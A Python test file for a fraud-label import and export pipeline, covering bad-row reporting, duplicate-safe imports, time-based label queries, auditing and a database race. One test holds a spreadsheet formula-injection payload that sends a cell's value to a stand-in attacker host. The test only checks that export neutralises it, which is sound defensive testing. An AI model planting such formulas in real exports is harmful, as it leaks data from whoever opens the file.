"""Labels in and out (issue 9): good and bad rows, idempotent imports, "known before t"."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pandas as pd
import pytest
from click.testing import CliRunner

from pipelines.cli import main
from pipelines.feedback.labels import read_label_file
from pipelines.store import ResultsStore
from pipelines.store.labels import latest_labels
from pipelines.store.models import Label


@pytest.fixture(params=["sqlite", "postgres"])
def store(request, tmp_path) -> ResultsStore:
    if request.param == "sqlite":
        return ResultsStore(f"sqlite:///{tmp_path / 'store.db'}")
    return ResultsStore(request.getfixturevalue("postgres_url"))


def _csv(tmp_path, text: str):
    path = tmp_path / "labels.csv"
    path.write_text(text)
    return path


def test_import_keeps_good_rows_and_names_file_row_column_of_bad_ones(tmp_path, store):
    path = _csv(
        tmp_path,
        "record_id,verdict,known_at,source\n"
        "t1,fraud,2026-01-02T00:00:00Z,chargeback\n"
        "t2,0,2026-01-03,\n"
        "t3,maybe,2026-01-03,\n"
        ",fraud,,\n"
        "t5,1,yesterday,\n"
        "t6,unsure,,review\n"
        "t7,fraud,,bank\n",
    )
    parsed = read_label_file(path, now=datetime(2026, 2, 1, tzinfo=UTC))
    assert list(parsed.rows["record_id"]) == ["t1", "t2", "t6"]
    assert list(parsed.rows["verdict"]) == ["fraud", "not_fraud", "unsure"]
    assert list(parsed.rows["source"]) == ["chargeback", "import", "review"]
    found = {(e.row, e.column) for e in parsed.errors}
    assert found == {(4, "verdict"), (5, "record_id"), (6, "known_at"), (8, "source")}
    assert all(str(path) in str(e) for e in parsed.errors)

    first = store.add_label_rows(parsed.rows, actor="ana", source_name=str(path))
    again = store.add_label_rows(
        read_label_file(path, now=datetime(2026, 2, 2, tzinfo=UTC)).rows,
        actor="ana",
        source_name=str(path),
    )
    assert (first.inserted, first.duplicates) == (3, 0)
    assert (again.inserted, again.duplicates) == (0, 3)
    assert len(store.label_rows()) == 3
    # unsure never counts as a label
    known = store.known_labels()
    assert dict(zip(known["record_id"], known["y"], strict=True)) == {"t1": 1, "t2": 0}


def test_known_before_t_and_the_latest_verdict_counts(tmp_path, store):
    path = _csv(
        tmp_path,
        "record_id,verdict,known_at\n"
        "a,fraud,2026-01-01\n"
        "a,not_fraud,2026-01-10\n"
        "b,fraud,2026-01-05\n"
        "c,not_fraud,2026-01-02\n"
        "c,unsure,2026-01-06\n",
    )
    store.add_label_rows(read_label_file(path).rows, actor="ana", source_name="f")

    def known(day: int) -> dict:
        frame = store.known_labels(known_before=datetime(2026, 1, day, tzinfo=UTC))
        return dict(zip(frame["record_id"], frame["verdict"], strict=True))

    assert known(1) == {}  # known_at == t is not "before t"
    assert known(2) == {"a": "fraud"}
    assert known(6) == {"a": "fraud", "b": "fraud", "c": "not_fraud"}
    assert known(11) == {"a": "not_fraud", "b": "fraud"}


def test_parquet_import_and_cli_round_trip(tmp_path):
    path = tmp_path / "labels.parquet"
    pd.DataFrame(
        {"record_id": ["p1", "p2", "p3"], "verdict": [1, 0, 7], "analyst": ["bo", None, None]}
    ).to_parquet(path)
    runner = CliRunner()
    result = runner.invoke(main, ["labels", "import", str(path), "--json"])
    assert result.exit_code == 1  # a bad row was reported
    report = json.loads(result.stdout)
    assert report["inserted"] == 2 and report["bad_rows"] == 1
    assert report["errors"] == [
        f"{path}, row 3, column 'verdict': verdict must be fraud, not_fraud, unsure, 1 or 0 ('7')"
    ]
    again = json.loads(runner.invoke(main, ["labels", "import", str(path), "--json"]).stdout)
    assert again["inserted"] == 0 and again["already_imported"] == 2

    out = tmp_path / "export.csv"
    result = runner.invoke(main, ["labels", "export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    exported = pd.read_csv(out)
    mine = exported.loc[exported["record_id"].isin(["p1", "p2"])]
    assert sorted(mine["verdict"]) == ["fraud", "not_fraud"]
    assert set(mine["source"]) == {"import"}
    assert {"record_id", "verdict", "known_at", "source", "analyst"} <= set(exported.columns)


def test_a_file_without_the_required_columns_is_refused(tmp_path):
    path = _csv(tmp_path, "id,label\n1,1\n")
    result = CliRunner().invoke(main, ["labels", "import", str(path)])
    assert result.exit_code == 2
    assert "missing column(s) ['record_id', 'verdict']" in result.output


def test_every_reader_takes_the_same_latest_verdict(tmp_path, store):
    """The latest label is the one known last, not the one stored last (a chargeback
    imported today may have been known weeks ago); rows known at the same time go to the
    one stored later. Training, promotion and the review pages read it alike."""
    first = _csv(
        tmp_path,
        "record_id,verdict,known_at,source\n"
        "x,fraud,2026-01-10,review\n"
        "y,not_fraud,2026-01-04,\n"
        "y,fraud,2026-01-04,\n"
        "z,fraud,2026-01-01,\n"
        "z,unsure,2026-01-03,\n",
    )
    store.add_label_rows(read_label_file(first).rows, actor="ana", source_name="first")
    later = tmp_path / "later.csv"
    later.write_text("record_id,verdict,known_at,source\nx,not_fraud,2026-01-02,chargeback\n")
    store.add_label_rows(read_label_file(later).rows, actor="ana", source_name="later")

    known = store.known_labels()
    assert dict(zip(known["record_id"], known["verdict"], strict=True)) == {
        "x": "fraud",
        "y": "fraud",
    }
    assert store.latest_verdicts(["x", "y", "z", "nobody"]).to_dict() == {"x": 1, "y": 1}
    with store.session() as session:
        shown = latest_labels(session, ["x", "y", "z"])
    assert {r: label["verdict"] for r, label in shown.items()} == {
        "x": "fraud",
        "y": "fraud",
        "z": "unsure",
    }
    assert store.latest_verdicts([]).empty


def test_label_export_neutralises_formula_injection(tmp_path):
    from pipelines.feedback.labels import write_label_export

    rows = pd.DataFrame(
        {
            "record_id": ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "tx1"],
            "verdict": ["fraud", "not_fraud"],
            "note": ["@SUM(1+1)", "-2 refunds"],
        }
    )
    for suffix in (".csv", ".parquet"):
        out = write_label_export(rows, tmp_path / f"labels{suffix}")
        back = pd.read_csv(out, dtype=str) if suffix == ".csv" else pd.read_parquet(out)
        assert back["record_id"].tolist()[0].startswith("'=HYPERLINK")
        assert back["record_id"].tolist()[1] == "tx1"
        assert back["note"].tolist() == ["'@SUM(1+1)", "'-2 refunds"]


def test_bulk_import_counts_duplicates_writes_each_key_once_and_is_audited(tmp_path, store):
    """Imports go in set-wise: a file overlapping an earlier one writes only its new rows
    (in file order), counts the rest as duplicates, keeps every value as given, and each
    import leaves one audit entry (who, which file, how many)."""
    first = _csv(
        tmp_path,
        "record_id,verdict,known_at,source,entity,reason_code,note\n"
        'a,fraud,2026-01-02T03:04:05.123456Z,chargeback,card 1,10.4,"comma, ""quote"""\n'
        "b,0,2026-01-03,,card 2,,\n"
        "b,0,2026-01-03,,card 2,,\n",  # the same row twice in a file is one label
    )
    parsed = read_label_file(first)
    assert len(parsed.rows) == 2
    one = store.add_label_rows(parsed.rows, actor="ana", source_name="first.csv")
    later = tmp_path / "later.csv"
    later.write_text(
        "record_id,verdict,known_at,source\n"
        "c,fraud,2026-01-04,\n"
        "a,fraud,2026-01-02T03:04:05.123456Z,chargeback\n"
        "d,not_fraud,2026-01-01,\n"
    )
    two = store.add_label_rows(read_label_file(later).rows, actor="bo", source_name="later.csv")
    three = store.add_label_rows(read_label_file(later).rows, actor="bo", source_name="later.csv")
    assert (one.inserted, one.duplicates) == (2, 0)
    assert (two.inserted, two.duplicates) == (2, 1)
    assert (three.inserted, three.duplicates) == (0, 3)

    rows = store.label_rows()
    assert list(rows["record_id"]) == ["a", "b", "c", "d"]  # stored in file order
    a = rows.iloc[0]
    assert a["known_at"] == pd.Timestamp("2026-01-02T03:04:05.123456Z")
    assert (a["entity"], a["reason_code"], a["note"]) == ("card 1", "10.4", 'comma, "quote"')
    assert pd.isna(rows.iloc[1]["reason_code"]) and pd.isna(rows.iloc[1]["note"])
    assert rows["created_at"].notna().all()

    audit = store.audit_entries(entity="labels")
    assert [(e.actor, e.entity_id, e.after) for e in reversed(audit)] == [
        ("ana", "first.csv", {"inserted": 2, "duplicates": 0}),
        ("bo", "later.csv", {"inserted": 2, "duplicates": 1}),
        ("bo", "later.csv", {"inserted": 0, "duplicates": 3}),
    ]
    assert all(e.action == "labels.imported" and e.at is not None for e in audit)


def test_an_import_racing_another_with_the_same_keys_skips_them(tmp_path, postgres_url):
    """PostgreSQL: the new rows go in with a plain insert; when another import commits
    the same keys after this one looked (its insert waits on the key, then conflicts),
    the rows are inserted again skipping those keys, and nothing is lost or doubled."""
    import threading

    import sqlalchemy as sa

    store = ResultsStore(postgres_url)
    path = _csv(tmp_path, "record_id,verdict,known_at\na,fraud,2026-01-02\nb,fraud,2026-01-03\n")
    rows = read_label_file(path).rows
    racing_row = rows.iloc[[0]]
    other = store.engine.connect()
    transaction = other.begin()  # another import: its row for "a" written, not committed
    other.execute(
        sa.insert(Label),
        [{**racing_row.iloc[0].to_dict(), "known_at": rows.iloc[0]["known_at"].to_pydatetime()}],
    )
    results = []
    importing = threading.Thread(
        target=lambda: results.append(store.add_label_rows(rows, actor="bo", source_name="x"))
    )
    importing.start()
    importing.join(timeout=1.0)
    assert importing.is_alive(), "the import waits on the uncommitted key"
    transaction.commit()
    other.close()
    importing.join(timeout=30)
    assert [(r.inserted, r.duplicates) for r in results] == [(1, 1)]
    assert sorted(store.label_rows()["record_id"]) == ["a", "b"]
